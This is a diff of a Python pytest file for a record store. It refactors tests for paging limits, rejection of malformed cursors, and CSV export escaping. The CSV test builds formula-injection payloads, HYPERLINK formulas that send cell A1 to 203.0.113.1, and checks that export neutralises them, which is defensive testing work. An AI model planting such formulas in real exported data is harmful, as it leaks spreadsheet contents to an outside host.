@@ -157,18 +157,18 @@ async def test_paging_is_newest_first_and_is_moved_by_nothing_that_comes_in(stor
     assert rest.next_cursor is None
 
 
-@pytest.mark.parametrize("limit", [0, -1, 1_001])
-async def test_a_limit_out_of_bounds_is_refused(store: RecordStore, limit: int) -> None:
-    with pytest.raises(RequestError, match="limit is"):
-        await store.find(limit=limit)
+async def test_a_limit_out_of_bounds_is_refused(store: RecordStore) -> None:
+    for limit in (0, -1, 1_001):
+        with pytest.raises(RequestError, match="limit is"):
+            await store.find(limit=limit)
+    assert (await store.find(limit=1_000)).records == []
 
 
-@pytest.mark.parametrize(
-    "cursor", ["", "x", "%%%", "bnVsbA", "WzEsMl0", "Wzk5OTk5OTk5OTk5OTk5OTk5OTk5LCJ4Il0", "ü", "W1tbW1tb" * 5_000]
-)
-async def test_a_foreign_cursor_is_refused(store: RecordStore, cursor: str) -> None:
-    with pytest.raises(RequestError, match="cursor"):
-        await store.find(cursor=cursor)
+async def test_a_foreign_cursor_is_refused(store: RecordStore) -> None:
+    too_large = "Wzk5OTk5OTk5OTk5OTk5OTk5OTk5LCJ4Il0"
+    for cursor in ("", "x", "%%%", "bnVsbA", "WzEsMl0", too_large, "ü", "W1tbW1tb" * 5_000):
+        with pytest.raises(RequestError, match="cursor"):
+            await store.find(cursor=cursor)
 
 
 async def test_the_indexes_serve_every_filter_and_the_order(database: Database, store: RecordStore) -> None:
@@ -279,15 +279,17 @@ async def test_csv_holds_all_of_a_record(store: RecordStore) -> None:
     assert abandoned["outcome"] == "abandoned"
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
-async def test_csv_holds_no_formulas(store: RecordStore, start: str) -> None:
-    formula = f'{start}HYPERLINK("http://203.0.113.1/?"&A1,"x")'
-    customer = Customer(id=formula, name=formula, tier=formula, language=formula)
-    fields = ("contact_id", "site", "ani", "dnis", "entry", "queue", "agent_id", "disposition", "notes")
-    await store.save(sample_record(1, customer=customer, **dict.fromkeys(fields, formula)))
-    _, (line,), _ = await export(store)
-    assert all(not cell.startswith(start) for cell in line.values())
-    assert line["notes"] == line["customer_name"] == f"'{formula}"
+async def test_csv_holds_no_formulas(store: RecordStore) -> None:
+    starts = ["=", "+", "-", "@", "\t", "\r"]
+    fields = ("site", "ani", "dnis", "entry", "queue", "agent_id", "disposition", "notes")
+    formulas = [f'{start}HYPERLINK("http://203.0.113.1/?"&A1,"x")' for start in starts]
+    for formula in formulas:
+        customer = Customer(id=formula, name=formula, tier=formula, language=formula)
+        await store.save(sample_record(1, contact_id=formula, customer=customer, **dict.fromkeys(fields, formula)))
+    _, lines, _ = await export(store)
+    assert {line["notes"] for line in lines} == {f"'{formula}" for formula in formulas}
+    for line in lines:
+        assert not [cell for cell in line.values() if cell.startswith(tuple(starts))]
 
 
 async def test_csv_streams_what_the_filter_lets_through(store: RecordStore) -> None:
